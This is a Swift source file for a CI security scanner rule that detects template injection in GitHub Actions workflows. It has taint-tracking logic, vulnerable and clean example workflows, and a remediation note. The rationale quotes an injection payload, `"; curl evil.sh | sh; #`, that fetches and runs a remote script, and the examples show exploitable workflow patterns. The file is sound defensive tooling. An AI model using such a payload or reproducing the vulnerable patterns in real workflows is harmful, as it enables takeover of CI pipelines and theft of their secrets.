import BulwarkCore
import BulwarkFormats

/// Attacker-controlled expression values expanded into code (`run:`, `actions/github-script`, ...).
struct TemplateInjectionRule: Rule {
    typealias Model = CIModel
    static let rule = RuleDescription(
        id: "workflow-template-injection", name: "Template injection into a script", family: "workflows",
        summary: "An attacker-controllable `${{ }}` value is pasted into a script before it runs.",
        rationale: rationale(
            detects: """
            `${{ ... }}` expressions inside `run:`, `actions/github-script` `script:` and inputs of other actions \
            that execute their value, whose result can come from an outsider: issue and pull request titles and \
            bodies, comment and review bodies, branch names (`github.head_ref`, `pull_request.head.ref`), commit \
            messages and author names, wiki page names, `workflow_run` branches and titles, and `env.X` values \
            that were set from any of these. The expression is parsed, so values that cannot carry text are not \
            findings: `contains(...)`, comparisons, literal ternaries (`cond && 'a' || 'b'`), numbers, SHAs and \
            step outcomes. Inputs of composite actions and reusable workflows are reported at low severity; \
            when a workflow in the same repository passes an outsider's value to such an input of a local \
            action or reusable workflow (`uses: ./...`, as a step or a job) that expands it into a script, the \
            caller's `with:` line is reported at the caller's severity, naming the script line it reaches.
            """,
            matters: """
            Expressions are substituted into the script text before the shell sees it, so a title such as \
            `"; curl evil.sh | sh; #` becomes code. Under `pull_request_target`, `issue_comment` or `issues` \
            the job holds secrets and a write token: this is how the Ultralytics release pipeline was poisoned \
            (December 2024, via a branch name) and how countless "pwn requests" start.
            """,
            fix: """
            Pass the value through an environment variable and quote it in the shell: \
            `env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`. In `github-script`, \
            read `context.payload` instead of templating.
            """,
            references: ["[GitHub: Security hardening, understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)",
                         "[GitHub Security Lab: untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)",
                         "[Ultralytics compromise (Dec 2024)](https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection)",
                         "CWE-94", "zizmor audit `template-injection`"]),
        defaultSeverity: .high, defaultConfidence: .high,
        remediation: "Move the expression into `env:` and reference it as a quoted shell variable.",
        examples: [
            Example(.triggers, path: wf, """
            on:
              issues:
                types: [opened]
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      echo "New issue"
                      echo "${{ github.event.issue.title }}" # <-
            """, commentPrefix: "#"),
            Example(.triggers, path: wf, """
            on: pull_request_target
            jobs:
              greet:
                runs-on: ubuntu-latest
                env:
                  BRANCH: ${{ github.head_ref }}
                steps:
                  - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
                    with:
                      script: |
                        console.log("${{ env.BRANCH }}") # <-
            """, commentPrefix: "#"),
            Example(.clean, path: wf, """
            on:
              issues:
                types: [opened]
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - env:
                      TITLE: ${{ github.event.issue.title }}
                    run: echo "$TITLE"
                  - run: echo "${{ github.event.issue.number }} ${{ github.event.pull_request.base.sha }}"
                  - run: echo "${{ contains(github.event.issue.title, 'bug') && 'bug' || 'other' }}"
                  - run: echo "${{ steps.check.outcome }}"
            """),
        ])
    var description: RuleDescription { Self.rule }

    func check(_ model: CIModel, context: RuleContext) -> [Finding] {
        var out: [Finding] = []
        let workflow = model.workflow
        let privileged = workflow?.hasPrivilegedUntrustedTrigger ?? false
        let forkReachable = workflow?.isForkReachable ?? false
        let isReusable = workflow?.trigger("workflow_call") != nil
        let judgedUpstream = workflow.map { w in
            w.triggerNames.intersection(Triggers.pwnRequest) == ["workflow_run"] && UntrustedCheckoutRule.upstreamNames(w) != nil
        } ?? false
        var outputs = OutputTaint(model: model, workspaceHostile: !judgedUpstream)
        for site in model.scripts where site.kind != .gitlab {
            let envTaint = envSources(model: model, job: site.job, step: site.step)
            let resolve: Taint.Resolver = { p in
                // Outputs of earlier steps and of needed jobs, followed through `$GITHUB_OUTPUT`.
                if let s = outputs.sources(p, job: site.job, step: site.step) { return s }
                guard p.root.lowercased() == "env", case .name(let n)? = p.segments.first else { return nil }
                return envTaint[n] ?? []
            }
            for e in ExpressionParser.embedded(in: site.scalar.value) {
                guard let expr = e.expr else { continue }
                var sources = Taint.sources(expr, resolve: resolve)
                var severity: Severity = privileged ? .high : (forkReachable ? .medium : .medium)
                var confidence: Confidence = .high
                if sources.isEmpty {
                    // Inputs of a composite action or a reusable workflow: the caller decides.
                    let inputs = expr.paths.filter { $0.root.lowercased() == "inputs" }
                    guard !inputs.isEmpty, model.kind == .action || isReusable else { continue }
                    if inputs.allSatisfy({ isNonStringInput($0, model: model) }) { continue }
                    sources = inputs.map(\.normalized)
                    severity = .low
                    confidence = .low
                }
                let line = model.line(of: e.raw, in: site.scalar, offset: e.offset)
                out.append(.workflow(Self.rule, message(e.raw, sources, site), context, line: line,
                                     severity: severity, confidence: confidence, anchor: "\(site.step?.index ?? -1):\(e.raw)"))
            }
        }
        return out
    }

    /// `env.X` names whose values carry attacker-controlled data, from workflow, job and step `env:`.
    func envSources(model: CIModel, job: Job?, step: Step?) -> [String: [String]] {
        var out: [String: [String]] = [:]
        let layers: [[YMapping.Entry]] = [model.workflow?.env ?? model.action?.env ?? [], job?.env ?? [], step?.env ?? []]
        for layer in layers {
            for e in layer {
                guard let v = e.value.string else { continue }
                let s = ExpressionParser.embedded(in: v).compactMap(\.expr).flatMap { Taint.sources($0) }
                out[e.key.value] = s
            }
        }
        return out.filter { !$0.value.isEmpty }
    }

    /// Whether an `inputs.x` is declared with a non-string type (boolean, number, choice).
    func isNonStringInput(_ p: ContextPath, model: CIModel) -> Bool {
        guard case .name(let n)? = p.segments.first else { return false }
        let decl: YNode?
        if let a = model.action { decl = a.inputs?[n] }
        else { decl = model.workflow?.trigger("workflow_call")?.config?["inputs"]?[n] }
        guard let t = decl?["type"]?.string else { return false }
        return t == "boolean" || t == "number" || t == "choice" || t == "environment"
    }

    func message(_ raw: String, _ sources: [String], _ site: ScriptSite) -> String {
        let sink: String
        switch site.kind {
        case .run: sink = "a `run:` script"
        case .githubScript: sink = "an `actions/github-script` script"
        case .executingInput(let i): sink = "the `\(i)` input, which the action executes"
        case .gitlab: sink = "a script"
        }
        let unique = Array(NSOrderedSetLike(sources).prefix(3)).joined(separator: ", ")
        return "`\(raw)` expands `\(unique)` into \(sink); a crafted value runs as code."
    }
}

/// Order-preserving de-duplication.
func NSOrderedSetLike(_ items: [String]) -> [String] {
    var seen = Set<String>()
    return items.filter { seen.insert($0).inserted }
}
